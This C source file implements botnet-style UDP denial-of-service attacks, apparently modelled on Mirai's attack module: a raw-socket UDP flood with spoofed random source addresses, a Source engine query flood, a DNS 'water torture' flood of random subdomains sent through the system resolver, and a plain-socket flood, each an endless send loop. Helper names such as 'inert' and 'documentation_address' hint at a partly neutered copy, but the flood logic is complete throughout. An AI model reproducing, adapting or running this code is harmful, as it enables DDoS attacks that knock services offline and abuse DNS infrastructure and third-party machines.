/* UDP floods: generic, Source engine query, DNS water torture, plain socket. */
#include "attack.h"

#include "inert.h"
#include "packet.h"
#include "resolver.h"
#include "table.h"
#include "util.h"

#if HAS_ATTACKS

/* IP and UDP headers of a packet with `payload` bytes. */
static void fill_headers(char *packet, uint8_t tos, uint16_t ident, uint8_t ttl, int dont_fragment,
                         port_t source_port, port_t destination_port, ipv4_t source, int payload)
{
    struct ip_header *ip = (struct ip_header *)packet;
    struct udp_header *udp = (struct udp_header *)(ip + 1);
    ip->version_length = 0x45;
    ip->tos = tos;
    ip->total = htons(sizeof(struct ip_header) + sizeof(struct udp_header) + (uint16_t)payload);
    ip->id = htons(ident);
    ip->ttl = ttl;
    if (dont_fragment)
        ip->fragment = htons(1 << 14);
    ip->protocol = IPPROTO_UDP;
    ip->source = source;
    udp->source = htons(source_port);
    udp->destination = htons(destination_port);
    udp->length = htons(sizeof(struct udp_header) + (uint16_t)payload);
}

/* Checksums and departure of one packet. */
static void finish(int fd, char *packet, struct attack_target *target, int payload)
{
    struct ip_header *ip = (struct ip_header *)packet;
    struct udp_header *udp = (struct udp_header *)(ip + 1);
    int transport = (int)sizeof(struct udp_header) + payload;
    ip->checksum = 0;
    ip->checksum = checksum_generic(ip, sizeof(struct ip_header));
    udp->checksum = 0;
    udp->checksum = checksum_transport(ip, udp, udp->length, transport);
    target->sock_addr.sin_addr.s_addr = ip->destination;
    target->sock_addr.sin_port = udp->destination;
    bounded_send(fd, packet, (int)sizeof(struct ip_header) + transport, &target->sock_addr);
}

void attack_udp_generic(ATTACK_ARGUMENTS)
{
    int i, fd;
    char **packets = calloc(target_count, sizeof(char *));
    uint8_t tos = (uint8_t)INT_OPTION(UDP, TOS);
    uint16_t ident = (uint16_t)INT_OPTION(UDP, IDENT);
    uint8_t ttl = (uint8_t)INT_OPTION(UDP, TTL);
    int dont_fragment = INT_OPTION(UDP, DONT_FRAGMENT);
    port_t source_port = (port_t)INT_OPTION(UDP, SOURCE_PORT);
    port_t destination_port = (port_t)INT_OPTION(UDP, DESTINATION_PORT);
    uint16_t size = (uint16_t)INT_OPTION(UDP, PAYLOAD_SIZE);
    int random_payload = INT_OPTION(UDP, PAYLOAD_RANDOM);
    uint32_t source = ADDRESS_OPTION(SOURCE_ADDRESS, local_address);
    if (size > MAXIMUM_PAYLOAD)
        size = MAXIMUM_PAYLOAD;
    if ((fd = attack_raw_socket(IPPROTO_UDP)) == -1)
        return;
    for (i = 0; i < target_count; i++) {
        packets[i] = calloc(PACKET_ROOM, 1);
        fill_headers(packets[i], tos, ident, ttl, dont_fragment, source_port, destination_port,
                     source, size);
    }
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct ip_header *ip = (struct ip_header *)packets[i];
            struct udp_header *udp = (struct udp_header *)(ip + 1);
            ip->destination = attack_draw_address(&targets[i]);
            if (source == 0xffffffff)
                ip->source = rand_next();
            if (ident == 0xffff)
                ip->id = (uint16_t)rand_next();
            if (source_port == 0xffff)
                udp->source = (port_t)rand_next();
            if (destination_port == 0xffff)
                udp->destination = (port_t)rand_next();
            if (random_payload)
                rand_bytes((char *)(udp + 1), size);
            finish(fd, packets[i], &targets[i], size);
        }
    }
}

void attack_udp_vse(ATTACK_ARGUMENTS)
{
    int i, fd, length;
    char *query;
    char **packets = calloc(target_count, sizeof(char *));
    uint8_t tos = (uint8_t)INT_OPTION(VSE, TOS);
    uint16_t ident = (uint16_t)INT_OPTION(VSE, IDENT);
    uint8_t ttl = (uint8_t)INT_OPTION(VSE, TTL);
    int dont_fragment = INT_OPTION(VSE, DONT_FRAGMENT);
    port_t source_port = (port_t)INT_OPTION(VSE, SOURCE_PORT);
    port_t destination_port = (port_t)INT_OPTION(VSE, DESTINATION_PORT);
    if ((fd = attack_raw_socket(IPPROTO_UDP)) == -1)
        return;
    STRING_OPEN(VSE_QUERY);
    query = STRING_GET(VSE_QUERY, &length);
    for (i = 0; i < target_count; i++) {
        char *payload;
        packets[i] = calloc(PACKET_ROOM, 1);
        fill_headers(packets[i], tos, ident, ttl, dont_fragment, source_port, destination_port,
                     local_address, length + 4);
        payload = packets[i] + sizeof(struct ip_header) + sizeof(struct udp_header);
        memset(payload, 0xff, 4);
        util_memcpy(payload + 4, query, length);
    }
    STRING_CLOSE(VSE_QUERY);
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct ip_header *ip = (struct ip_header *)packets[i];
            struct udp_header *udp = (struct udp_header *)(ip + 1);
            ip->destination = attack_draw_address(&targets[i]);
            if (ident == 0xffff)
                ip->id = (uint16_t)rand_next();
            if (source_port == 0xffff)
                udp->source = (port_t)rand_next();
            if (destination_port == 0xffff)
                udp->destination = (port_t)rand_next();
            finish(fd, packets[i], &targets[i], length + 4);
        }
    }
}

/* The name server of this machine, or one of the fixed ones. */
LOCAL ipv4_t system_resolver(void)
{
    char content[512];
    int fd, got, at;
    STRING_OPEN(RESOLVER_FILE);
    fd = open(STRING_GET(RESOLVER_FILE, NULL), O_RDONLY);
    STRING_CLOSE(RESOLVER_FILE);
    if (fd != -1) {
        got = (int)read(fd, content, sizeof(content) - 1);
        close(fd);
        if (got > 0) {
            content[got] = '\0';
            STRING_OPEN(RESOLVER_KEYWORD);
            at = util_stristr(content, got, STRING_GET(RESOLVER_KEYWORD, NULL));
            STRING_CLOSE(RESOLVER_KEYWORD);
            if (at != -1)
                return documentation_address(inet_addr(content + at));
        }
    }
    return NETWORK_ADDRESS(RESOLVER_1, RESOLVER_2, RESOLVER_3, RESOLVER_4);
}

void attack_udp_dns(ATTACK_ARGUMENTS)
{
    int i, fd;
    char **packets = calloc(target_count, sizeof(char *));
    uint8_t tos = (uint8_t)INT_OPTION(DNS, TOS);
    uint16_t ident = (uint16_t)INT_OPTION(DNS, IDENT);
    uint8_t ttl = (uint8_t)INT_OPTION(DNS, TTL);
    int dont_fragment = INT_OPTION(DNS, DONT_FRAGMENT);
    port_t source_port = (port_t)INT_OPTION(DNS, SOURCE_PORT);
    port_t destination_port = (port_t)INT_OPTION(DNS, DESTINATION_PORT);
    uint16_t query_id = (uint16_t)INT_OPTION(DNS, DNS_ID);
    uint8_t label = (uint8_t)INT_OPTION(DNS, PAYLOAD_SIZE);
    char *domain = TEXT_OPTION(DOMAIN, NULL);
    int domain_length, size;
    ipv4_t resolver;
    if (domain == NULL || (domain_length = util_strlen(domain)) > 128 || label > 63)
        return;
    if ((fd = attack_raw_socket(IPPROTO_UDP)) == -1)
        return;
    resolver = system_resolver();
    size = (int)sizeof(struct dns_header) + 1 + label + domain_length + 2 +
           (int)sizeof(struct dns_question);
    for (i = 0; i < target_count; i++) {
        struct dns_header *dns;
        struct dns_question question;
        char *name;
        packets[i] = calloc(PACKET_ROOM, 1);
        fill_headers(packets[i], tos, ident, ttl, dont_fragment, source_port, destination_port,
                     local_address, size);
        dns = (struct dns_header *)(packets[i] + sizeof(struct ip_header) +
                                    sizeof(struct udp_header));
        dns->id = htons(query_id);
        dns->flags = htons(0x0100);
        dns->questions = htons(1);
        name = (char *)(dns + 1);
        *name = (char)label;
        resolver_domain_to_hostname(name + 1 + label, domain);
        question.type = htons(1);
        question.class = htons(1);
        memcpy(name + 1 + label + domain_length + 2, &question, sizeof(question));
    }
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct ip_header *ip = (struct ip_header *)packets[i];
            struct udp_header *udp = (struct udp_header *)(ip + 1);
            struct dns_header *dns = (struct dns_header *)(udp + 1);
            if (ident == 0xffff)
                ip->id = (uint16_t)rand_next();
            if (source_port == 0xffff)
                udp->source = (port_t)rand_next();
            if (destination_port == 0xffff)
                udp->destination = (port_t)rand_next();
            if (query_id == 0xffff)
                dns->id = (uint16_t)rand_next();
            rand_alphastr((char *)(dns + 1) + 1, label);
            ip->destination = documentation_address(resolver);
            finish(fd, packets[i], &targets[i], size);
        }
    }
}

void attack_udp_plain(ATTACK_ARGUMENTS)
{
    int i;
    char **packets = calloc(target_count, sizeof(char *));
    int *fds = calloc(target_count, sizeof(int));
    port_t destination_port = (port_t)INT_OPTION(UDPPLAIN, DESTINATION_PORT);
    port_t source_port = (port_t)INT_OPTION(UDPPLAIN, SOURCE_PORT);
    uint16_t size = (uint16_t)INT_OPTION(UDPPLAIN, PAYLOAD_SIZE);
    int random_payload = INT_OPTION(UDPPLAIN, PAYLOAD_RANDOM);
    if (source_port == 0xffff)
        source_port = (port_t)rand_next();
    else
        source_port = htons(source_port);
    if (size > MAXIMUM_PAYLOAD)
        size = MAXIMUM_PAYLOAD;
    for (i = 0; i < target_count; i++) {
        struct sockaddr_in from;
        packets[i] = calloc(PACKET_ROOM, 1);
        targets[i].sock_addr.sin_port =
            destination_port == 0xffff ? (port_t)rand_next() : htons(destination_port);
        if ((fds[i] = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP)) == -1)
            return;
        util_zero(&from, sizeof(from));
        from.sin_family = AF_INET;
        from.sin_port = source_port;
        bind(fds[i], (struct sockaddr *)&from, sizeof(from));
        targets[i].sock_addr.sin_addr.s_addr = attack_draw_address(&targets[i]);
    }
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            if (random_payload)
                rand_bytes(packets[i], size);
            bounded_send(fds[i], packets[i], size, &targets[i].sock_addr);
        }
    }
}

#endif
